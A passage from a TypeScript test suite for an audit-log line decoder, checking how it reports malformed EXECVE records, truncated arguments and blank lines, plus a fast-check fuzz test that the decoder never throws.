    }).not.toThrow();
    const expected = reasons.flatMap((reason, i) =>
      reason === undefined ? [] : [{ line: before.length + i + 1, reason }],
    );
    expect(decoded!.malformed.map((m) => ({ line: m.line, reason: m.reason }))).toEqual(
      expected.map((e) => ({
        line: e.line,
        reason: typeof e.reason === "string" ? e.reason : expect.stringMatching(e.reason),
      })),
    );
    for (const m of decoded!.malformed) expect(m.raw).toBe(all[m.line - 1]);
    expect(decoded!.events.filter((e) => e.process.pid !== 33).map((e) => e.process.args[1])).toEqual(
      expect.arrayContaining(["http://before", "http://after"]),
    );
  });

  it("still emits an event whose EXECVE had a bad arg, with the args cut there", () => {
    const decoded = decodeLines([syscall(5), execve(5, 'argc=3 a0="sh" a1=XYZ a2="x"'), eoe(5)]);
    expect(decoded.malformed.map((m) => m.reason)).toEqual(["bad hex in a1"]);
    expect(decoded.events[0]!.process).toMatchObject({ args: ["sh"], argsTruncated: true });
  });

  it("flags the args of an event whose EXECVE line was lost", () => {
    const decoded = decodeLines([syscall(6), execve(6, 'argc=2 a0="sh" a1="-c'), proctitle(6, ["sh", "-c"])]);
    expect(decoded.malformed).toHaveLength(1);
    expect(decoded.events[0]!.process).toMatchObject({ args: ["sh", "-c"], argsTruncated: true });
  });

  it("ignores blank lines", () => {
    expect(decodeLines(["", "   ", "\r"]).out).toEqual([]);
  });

  it("never throws, and reports every line it cannot read, whatever the input", () => {
    const sampleLines = [...CAPTURED.split("\n").slice(0, 30), ...NORMAL.split("\n")].filter((l) => l !== "");
    const mutated = fc
      .tuple(fc.constantFrom(...sampleLines), fc.nat(), fc.nat(), fc.string({ maxLength: 8 }))
      .map(([line, a, b, insert]) => {
        const i = a % (line.length + 1);
        const j = i + (b % 16);
        return line.slice(0, i) + insert + line.slice(j);
      });
    const anyLine = fc.oneof(
      fc.constantFrom(...sampleLines),
      mutated,
      fc.string({ maxLength: 64 }),
      fc.string({ unit: "binary", maxLength: 64 }),
    );
    fc.assert(
      fc.property(fc.array(anyLine, { maxLength: 40 }), (lines) => {
        const decoded = decodeLines(lines);
        for (const o of decoded.out) {
          expect(o.line).toBeGreaterThanOrEqual(1);
          expect(o.line).toBeLessThanOrEqual(lines.length);
        }
        for (const m of decoded.malformed) {
          expect(m.reason.length).toBeGreaterThan(0);
          expect(m.reason.length).toBeLessThan(200);
        }
      }),
      { numRuns: 300 },
    );
  });
});
